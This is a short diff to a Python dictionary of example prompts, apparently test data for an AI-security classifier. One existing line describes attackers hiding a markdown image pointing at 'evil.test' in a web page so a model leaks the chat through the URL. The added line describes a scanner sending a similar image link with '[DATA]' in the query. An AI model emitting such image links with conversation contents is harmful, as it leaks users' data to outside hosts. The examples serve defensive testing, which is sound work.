@@ -383,6 +383,8 @@ EXAMPLES: dict[str, tuple[str, list[str], list[str]]] = {
             "Our newsletter template adds the campaign id to the URL of every link.",
             "Attackers can hide ![x](https://evil.test/i.png?q={chat}) in a web page so the "
             "model leaks the chat: how do we stop that?",
+            "Our scanner checks for data exfiltration exploits through markdown: it sends "
+            "![x](https://{domain}/logo.png?q=[DATA]) and watches the web log.",
         ],
     ),
     "AISEC-LLM-026": (
